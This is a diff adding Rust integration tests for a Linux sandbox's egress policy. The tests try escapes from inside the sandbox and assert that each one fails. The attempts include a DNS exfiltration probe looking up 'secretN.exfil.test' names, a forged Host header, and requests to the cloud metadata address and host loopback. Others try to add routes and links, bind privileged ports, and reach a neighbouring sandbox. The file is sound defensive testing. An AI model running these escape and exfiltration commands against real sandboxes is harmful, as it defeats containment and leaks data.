@@ -1,0 +1,355 @@
+//! Network egress of a linux sandbox, attacked from inside: the host's DNS stub and relay
+//! bound in the sandbox's routeless namespace let out exactly what the networking config
+//! names, to a fake "internet" the test builds (see `internet`); everything else leads
+//! nowhere. Each test is one class of escape from issue 12's list.
+
+mod common;
+mod internet;
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::Arc;
+use std::sync::atomic::Ordering;
+use std::time::Duration;
+
+use common::{Isolated, assert_gone, can_run, test_plan};
+use internet::{Internet, Server, TestResolver};
+use omabox_backend_linux::Networking;
+use omabox_backend_linux::port::LinuxSandboxPort;
+use omabox_contract::networking::NetworkingConfig;
+
+fn limited(hosts: &[&str]) -> NetworkingConfig {
+    NetworkingConfig::Limited {
+        allowed_hosts: hosts.iter().map(|h| h.to_string()).collect(),
+        allow_package_managers: false,
+        allow_mcp_servers: false,
+    }
+}
+
+struct Fixture {
+    iso: Isolated,
+    port: LinuxSandboxPort,
+}
+
+impl Fixture {
+    async fn start(networking: Networking, resolver: Arc<TestResolver>) -> Self {
+        let iso = Isolated::new();
+        let mut plan = test_plan();
+        plan.network = networking;
+        let port = LinuxSandboxPort::start_resolving(&iso.runtime(), &plan, resolver)
+            .await
+            .expect("sandbox start");
+        Self { iso, port }
+    }
+
+    /// Runs `command` in the sandbox; its combined output with the exit line.
+    async fn sh(&self, command: &str) -> String {
+        self.port
+            .exec_command(command, Some(Duration::from_secs(30)))
+            .await
+            .expect("exec")
+    }
+
+    /// `curl` in the sandbox: the body on success, else `FAILED <curl exit code>`.
+    async fn curl(&self, args: &str) -> String {
+        let out = self
+            .sh(&format!(
+                "curl -fsS -m 5 --noproxy '*' {args} 2>/dev/null || echo FAILED $?"
+            ))
+            .await;
+        out.trim().to_owned()
+    }
+
+    async fn finish(self) {
+        let identity = self.port.identity().clone();
+        self.port.terminate().await.expect("destroy");
+        assert_gone(&identity);
+        self.iso.assert_empty();
+    }
+}
+
+fn net(config: NetworkingConfig) -> Networking {
+    Networking {
+        config,
+        ..Networking::default()
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_allowed_name_is_reached_and_another_name_is_not_even_resolved() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let web = inet.http(80, "web");
+    let far = IpAddr::V4(inet.far);
+    let resolver = TestResolver::new(&[("allowed.test", far), ("denied.test", far)]);
+    let fx = Fixture::start(net(limited(&["allowed.test"])), Arc::clone(&resolver)).await;
+
+    assert_eq!(
+        fx.curl("http://allowed.test/").await,
+        "web saw host allowed.test"
+    );
+    assert_eq!(web.accepts(), 1);
+    // A denied name does not resolve, and its lookup never leaves the host.
+    assert!(fx.curl("http://denied.test/").await.starts_with("FAILED"));
+    // Asking for the denied name over the allowed name's connection: refused by name.
+    let forged = fx
+        .sh("curl -s -m 5 -o /dev/null -w '%{http_code}' -H 'Host: denied.test' http://allowed.test/")
+        .await;
+    assert_eq!(forged.trim(), "403");
+    assert_eq!(web.accepts(), 1, "no denied request reached the server");
+    assert!(
+        !resolver.asked().iter().any(|n| n == "denied.test"),
+        "{:?}",
+        resolver.asked()
+    );
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn addresses_other_ports_ipv6_and_udp_lead_nowhere() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let web = inet.http(80, "web");
+    let other_port = inet.http(8080, "other-port");
+    let udp = inet.udp(9999);
+    let far = IpAddr::V4(inet.far);
+    let resolver = TestResolver::new(&[("allowed.test", far)]);
+    let fx = Fixture::start(net(limited(&["allowed.test"])), resolver).await;
+
+    // The allowed host's address, directly: no route.
+    let direct = fx.curl(&format!("http://{}/", inet.far)).await;
+    assert!(direct.starts_with("FAILED"), "{direct}");
+    // The allowed host on a port its entry does not name.
+    assert!(
+        fx.curl("http://allowed.test:8080/")
+            .await
+            .starts_with("FAILED")
+    );
+    // IPv6: no AAAA answer, no v6 route, no listener on ::1.
+    assert!(
+        fx.curl("-6 http://allowed.test/")
+            .await
+            .starts_with("FAILED")
+    );
+    assert!(fx.curl("http://[::1]:80/").await.starts_with("FAILED"));
+    assert!(
+        fx.curl(&format!("http://[::ffff:{}]/", inet.far))
+            .await
+            .starts_with("FAILED")
+    );
+    // UDP anywhere but the stub: unreachable.
+    let sent = fx
+        .sh(&format!(
+            "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('{}', 9999))\" 2>&1; echo rc=$?",
+            inet.far
+        ))
+        .await;
+    assert!(sent.contains("unreachable"), "{sent}");
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    assert_eq!(udp.load(Ordering::SeqCst), 0);
+    assert_eq!(web.accepts(), 0);
+    assert_eq!(other_port.accepts(), 0);
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_resolving_to_the_host_loopback_or_metadata_are_refused() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    // Services of the host itself: on its link address and on its loopback.
+    let on_link = Server::http(
+        std::net::TcpListener::bind(SocketAddr::from((inet.host, 80))).unwrap(),
+        "host-link",
+    );
+    let on_loopback = Server::http(
+        std::net::TcpListener::bind("127.0.0.1:0").unwrap(),
+        "host-lo",
+    );
+    let lo_port = on_loopback.addr.port();
+    let resolver = TestResolver::new(&[
+        ("hostside.test", IpAddr::V4(inet.host)),
+        ("loop.test", "127.0.0.1".parse().unwrap()),
+        ("meta.test", "169.254.169.254".parse().unwrap()),
+        ("meta6.test", "fd00:ec2::254".parse().unwrap()),
+    ]);
+    let hosts = [
+        "hostside.test".to_string(),
+        "loop.test".into(),
+        format!("loop.test:{lo_port}"),
+        "meta.test".into(),
+        "meta6.test".into(),
+    ];
+    let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
+    let fx = Fixture::start(net(limited(&hosts)), resolver).await;
+    for url in [
+        "http://hostside.test/".to_string(),
+        "http://loop.test/".into(),
+        format!("http://loop.test:{lo_port}/"),
+        format!("http://127.0.0.1:{lo_port}/"),
+        "http://meta.test/".into(),
+        "http://meta6.test/".into(),
+    ] {
+        let got = fx.curl(&url).await;
+        assert!(got.starts_with("FAILED"), "{url}: {got}");
+    }
+    assert_eq!(on_link.accepts(), 0);
+    assert_eq!(on_loopback.accepts(), 0);
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn lookups_of_denied_names_never_reach_a_resolver() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let resolver = TestResolver::new(&[("allowed.test", IpAddr::V4(inet.far))]);
+    let fx = Fixture::start(net(limited(&["allowed.test"])), Arc::clone(&resolver)).await;
+    let out = fx
+        .sh("for i in 1 2 3 4 5 6 7 8; do getent hosts \"secret$i-$RANDOM.exfil.test\" && echo LEAKED; done; getent ahostsv4 allowed.test | head -1")
+        .await;
+    assert!(!out.contains("LEAKED"), "{out}");
+    // The allowed name resolves to a synthetic loopback address of the sandbox's own.
+    assert!(out.starts_with("127.64."), "{out}");
+    let asked = resolver.asked();
+    assert!(asked.iter().all(|n| n == "allowed.test"), "{asked:?}");
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_sandbox_cannot_change_routes_links_or_take_the_hosts_ports() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let resolver = TestResolver::new(&[("allowed.test", IpAddr::V4(inet.far))]);
+    let fx = Fixture::start(net(limited(&["allowed.test"])), resolver).await;
+    for cmd in [
+        format!("ip route add {}/32 dev lo", inet.far),
+        "ip route add default dev lo".to_string(),
+        "ip link add omabox0 type dummy".into(),
+        "ip addr add 198.18.255.1/32 dev lo".into(),
+        "ip link set lo down".into(),
+    ] {
+        let out = fx.sh(&format!("{cmd} 2>&1; echo rc=$?")).await;
+        assert!(!out.contains("rc=0"), "{cmd}: {out}");
+    }
+    // The host's listeners cannot be displaced: privileged ports are not the sandbox's.
+    let out = fx
+        .sh("python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 443))\" 2>&1; echo rc=$?")
+        .await;
+    assert!(
+        out.contains("Permission denied") || out.contains("in use"),
+        "{out}"
+    );
+    assert!(!out.contains("rc=0"), "{out}");
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_policy_changes_on_the_live_sandbox() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let web = inet.http(80, "web");
+    let alt = inet.http(8443, "alt");
+    let far = IpAddr::V4(inet.far);
+    let resolver = TestResolver::new(&[("a.test", far), ("b.test", far)]);
+    let fx = Fixture::start(net(limited(&["a.test"])), resolver).await;
+    assert_eq!(fx.curl("http://a.test/").await, "web saw host a.test");
+    assert!(fx.curl("http://b.test:8443/").await.starts_with("FAILED"));
+
+    // Widened: b.test on a port no listener had yet.
+    fx.port
+        .set_networking(&net(limited(&["a.test", "b.test:8443"])))
+        .unwrap();
+    assert_eq!(
+        fx.curl("http://b.test:8443/").await,
+        "alt saw host b.test:8443"
+    );
+    // Narrowed to nothing.
+    fx.port.set_networking(&net(limited(&[]))).unwrap();
+    assert!(fx.curl("http://a.test/").await.starts_with("FAILED"));
+    assert!(fx.curl("http://b.test:8443/").await.starts_with("FAILED"));
+    assert_eq!((web.accepts(), alt.accepts()), (1, 1));
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn unrestricted_reaches_any_name_but_never_an_address_or_the_host() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let web = inet.http(80, "web");
+    let far = IpAddr::V4(inet.far);
+    let resolver = TestResolver::new(&[
+        ("one.test", far),
+        ("two.test", far),
+        ("hostside.test", IpAddr::V4(inet.host)),
+    ]);
+    let fx = Fixture::start(net(NetworkingConfig::Unrestricted), resolver).await;
+    assert_eq!(fx.curl("http://one.test/").await, "web saw host one.test");
+    assert_eq!(fx.curl("http://two.test/").await, "web saw host two.test");
+    assert!(fx.curl("http://hostside.test/").await.starts_with("FAILED"));
+    assert!(
+        fx.curl(&format!("http://{}/", inet.far))
+            .await
+            .starts_with("FAILED")
+    );
+    assert_eq!(web.accepts(), 2);
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_gateway_is_reached_at_its_port_on_loopback_and_nothing_else_of_the_host() {
+    if !can_run() {
+        return;
+    }
+    let gateway = Server::http(
+        std::net::TcpListener::bind("127.0.0.1:0").unwrap(),
+        "gateway",
+    );
+    let other = Server::http(std::net::TcpListener::bind("127.0.0.1:0").unwrap(), "other");
+    let networking = Networking {
+        config: limited(&[]),
+        gateway: Some(gateway.addr),
+        ..Networking::default()
+    };
+    let fx = Fixture::start(networking, TestResolver::new(&[])).await;
+    let port = gateway.addr.port();
+    assert_eq!(
+        fx.curl(&format!("http://127.0.0.1:{port}/v1/x")).await,
+        format!("gateway saw host 127.0.0.1:{port}")
+    );
+    let got = fx
+        .curl(&format!("http://127.0.0.1:{}/", other.addr.port()))
+        .await;
+    assert!(got.starts_with("FAILED"), "{got}");
+    assert_eq!((gateway.accepts(), other.accepts()), (1, 0));
+    fx.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_sandbox_cannot_reach_another() {
+    if !can_run() {
+        return;
+    }
+    let inet = Internet::new();
+    let resolver = TestResolver::new(&[("allowed.test", IpAddr::V4(inet.far))]);
+    let a = Fixture::start(net(limited(&["allowed.test"])), Arc::clone(&resolver)).await;
+    let b = Fixture::start(net(limited(&["allowed.test"])), resolver).await;
+    let listening = a
+        .sh("python3 -c \"import socket,time; s=socket.socket(); s.bind(('127.0.0.1', 8000)); s.listen(); print('up', flush=True); time.sleep(30)\" > /tmp/l 2>&1 & sleep 0.5; cat /tmp/l")
+        .await;
+    assert!(listening.contains("up"), "{listening}");
+    assert!(b.curl("http://127.0.0.1:8000/").await.starts_with("FAILED"));
+    a.finish().await;
+    b.finish().await;
+}
